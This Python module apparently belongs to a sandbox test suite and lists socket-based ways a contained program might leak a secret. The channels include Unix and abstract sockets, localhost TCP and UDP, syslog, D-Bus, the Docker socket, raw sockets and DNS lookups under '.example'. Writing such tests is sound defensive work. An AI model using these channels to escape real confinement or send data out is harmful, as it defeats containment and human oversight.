"""Ways out of a contained program: sockets."""
import ctypes
import os
import socket

from ways import FACTS, OUTSIDE, PLAN, SECRET, WORKSPACE, command, syscall, way


@way
def connect_to_an_accomplice():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(FACTS["listener"])
    connection.send(SECRET)


@way
def hand_over_a_descriptor():
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    connection.connect(FACTS["listener"])
    socket.send_fds(connection, [b"x"], [os.open(PLAN, os.O_RDONLY)])


@way
def connect_by_a_relative_path():
    os.chdir(OUTSIDE)
    try:
        socket.socket(socket.AF_UNIX).connect(os.path.relpath(FACTS["listener"]))
    finally:
        os.chdir("/")


@way
def connect_to_an_abstract_socket():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0" + FACTS["abstract"])
    connection.send(SECRET)


@way
def listen_at_a_path():
    socket.socket(socket.AF_UNIX).bind(os.path.join(WORKSPACE, "listener"))


@way
def listen_at_an_abstract_socket():
    socket.socket(socket.AF_UNIX).bind("\0mamd-leak")


@way
def listen_at_any_address():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("")
    listener.listen()


@way
def listen_as_an_office():
    """It is told that it listens; nobody can connect, nor it."""
    listener, path = socket.socket(socket.AF_UNIX), os.path.join(WORKSPACE, "OSL_PIPE_0_leak")
    listener.bind(path)
    listener.listen()
    if os.path.exists(path) or listener.getsockname():
        return
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.connect(path)
        except OSError:
            listener.accept()


@way
def send_to_who_made_it_listen():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("/tmp/OSL_PIPE_0_leak")
    listener.listen()
    listener.send(SECRET)


@way
def listen_without_a_name():
    listener = socket.socket(socket.AF_UNIX)
    listener.listen()
    if not listener.getsockname():
        listener.accept()


@way
def send_a_datagram():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(SECRET, FACTS["datagrams"])


@way
def send_from_a_pair():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(SECRET, FACTS["datagrams"])


@way
def send_from_a_raw_socket():
    socket.socket(socket.AF_UNIX, socket.SOCK_RAW).sendto(SECRET, FACTS["datagrams"])


@way
def write_to_the_log():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(SECRET, "/dev/log")


@way
def log_with_logger():
    command("logger", "--socket-errors=on", SECRET.decode())


@way
def use_the_system_bus():
    socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")


@way
def use_the_session_bus():
    command("gdbus", "call", "--session", "-d", "org.freedesktop.DBus", "-o", "/", "-m",
            "org.freedesktop.DBus.ListNames")


@way
def use_docker():
    socket.socket(socket.AF_UNIX).connect(FACTS["docker"])


@way
def connect_over_tcp():
    connection = socket.create_connection(("127.0.0.1", FACTS["port"]), timeout=5)
    connection.send(SECRET)


@way
def connect_over_tcp_6():
    connection = socket.create_connection(("::1", FACTS["port"]), timeout=5)
    connection.send(SECRET)


@way
def connect_while_sending():
    socket.socket().sendto(SECRET, 0x20000000, ("127.0.0.1", FACTS["port"]))  # MSG_FASTOPEN


@way
def connect_while_sending_a_message():
    socket.socket().sendmsg([SECRET], [], 0x20000000, ("127.0.0.1", FACTS["port"]))


@way
def connect_while_sending_over_tcp_6():
    socket.socket(socket.AF_INET6).sendto(SECRET, 0x20000000, ("::1", FACTS["port"]))


@way
def make_a_pair_of_tipc():
    socket.socketpair(30, socket.SOCK_SEQPACKET)


@way
def listen_over_tcp():
    socket.socket().listen()


@way
def send_over_udp():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.sendto(SECRET, ("127.0.0.1", FACTS["udp_port"]))


@way
def send_over_udp_6():
    sender = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sender.sendto(SECRET, ("::1", FACTS["udp_port"]))


@way
def send_over_udp_lite():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)


@way
def send_over_sctp():
    socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132)


@way
def use_the_kernels_ciphers():
    socket.socket(38, socket.SOCK_SEQPACKET)  # AF_ALG


@way
def hide_the_family():
    number = syscall(41, ctypes.c_uint64(0x1_0000_0002), 2, 0)  # AF_INET, with more bits
    socket.socket(fileno=number).sendto(SECRET, ("127.0.0.1", FACTS["udp_port"]))


@way
def send_over_mptcp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", FACTS["port"]))


@way
def ping():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


@way
def send_raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)


@way
def send_packets():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@way
def talk_to_the_kernel():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)  # NETLINK_USERSOCK


@way
def talk_to_a_host():
    socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK


@way
def resolve_a_name():
    socket.getaddrinfo(SECRET.decode()[:40].strip().replace(" ", "-") + ".example", 80)
